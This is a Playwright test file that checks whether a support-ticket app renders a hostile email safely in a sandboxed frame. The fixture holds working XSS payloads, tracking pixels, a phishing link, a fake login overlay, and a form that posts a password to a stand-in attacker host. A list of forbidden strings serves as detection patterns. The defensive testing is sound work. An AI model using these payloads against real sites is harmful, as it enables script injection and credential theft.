import { expect, test } from '@playwright/test';
import { apiToken, serverSnapshot, signIn } from './support/app';
import { deliverEmail } from './support/injectEmail';

const evilHost = 'evil.accord-test.example';
const hostile = `
<p id="greeting">Hello <b>support team</b>, our export is failing.</p>
<script>alert('script'); parent.document.title = 'pwned-script'; window.top.__pwned = 1;</script>
<img src="x" onerror="alert('onerror'); parent.document.title='pwned-onerror'">
<svg onload="alert('svg')"><circle r="5"></circle></svg>
<a id="jslink" href="javascript:alert('js-link')">View invoice</a>
<a href="https://${evilHost}/phish">Reset your password</a>
<img src="https://${evilHost}/pixel.gif?u=1" width="1" height="1">
<img srcset="https://${evilHost}/srcset.png 2x">
<div style="background-image:url(https://${evilHost}/bg.png)">background</div>
<style>@import url(https://${evilHost}/import.css); body { background: url(https://${evilHost}/body.png) } #greeting { display:none }</style>
<link rel="stylesheet" href="https://${evilHost}/link.css">
<meta http-equiv="refresh" content="0; url=https://${evilHost}/refresh">
<iframe src="https://${evilHost}/frame"></iframe>
<object data="https://${evilHost}/object"></object>
<form action="https://${evilHost}/steal"><input name="password"><button>Go</button></form>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:9999">Fake login overlay</div>
<p style="font-size:0;color:transparent">hidden instructions</p>
`;

test('a hostile email body renders inert in a sandboxed frame', async ({ page }) => {
  const token = await apiToken('tier1');
  const snap = await serverSnapshot(token);
  const ticket = (snap.get('ticket') ?? []).find((t) => t.status === 'open' || t.status === 'new');
  expect(ticket, 'the demo data has an open ticket').toBeTruthy();
  const ticketId = String(ticket!.id);
  await deliverEmail(ticketId, (ticket!.requesterId as string | null) ?? null, hostile, Date.now());

  const dialogs: string[] = [];
  const evilRequests: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  page.on('request', (r) => {
    if (r.url().includes(evilHost) || r.url().startsWith('javascript:')) evilRequests.push(r.url());
  });
  await page.route(`**/*${evilHost}*/**`, (route) => {
    evilRequests.push(route.request().url());
    return route.abort();
  });

  await signIn(page, 'tier1');
  await page.goto(`/#/ticket/${ticketId}`);
  const frame = page.locator('iframe.email-frame').last();
  await expect(frame).toBeVisible({ timeout: 60_000 });
  await expect(frame).toHaveAttribute('sandbox', '');
  const srcdoc = (await frame.getAttribute('srcdoc')) ?? '';
  for (const bad of ['<script', 'onerror', 'onload', 'javascript:', '<iframe', '<object', '<form', '<link', 'http-equiv="refresh"', '@import', `url(https://${evilHost}`]) {
    expect(srcdoc.toLowerCase(), `srcdoc must not contain ${bad}`).not.toContain(bad.toLowerCase());
  }
  // The frame has its own CSP that blocks remote loads.
  expect(srcdoc).toContain("default-src 'none'");

  const content = page.frameLocator('iframe.email-frame').last();
  await expect(content.locator('#greeting, p').first()).toContainText('Hello');
  await expect(content.locator('script')).toHaveCount(0);
  await expect(content.locator('[onerror], [onload], [href^="javascript"]')).toHaveCount(0);
  await expect(page.getByText(/remote images? blocked/).last()).toBeVisible();
  await expect(page.getByRole('button', { name: 'Load remote images' }).last()).toBeVisible();
  await expect(page.getByText('invoice.pdf.exe').last()).toBeVisible();

  // Clicking inside the message does nothing dangerous.
  await content.getByText('View invoice').click();
  await page.waitForTimeout(1000);

  expect(dialogs).toEqual([]);
  expect(evilRequests).toEqual([]);
  expect(await page.title()).toBe('Accord');
  expect(await page.evaluate(() => (globalThis as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  // The app is still in one piece and usable.
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
});
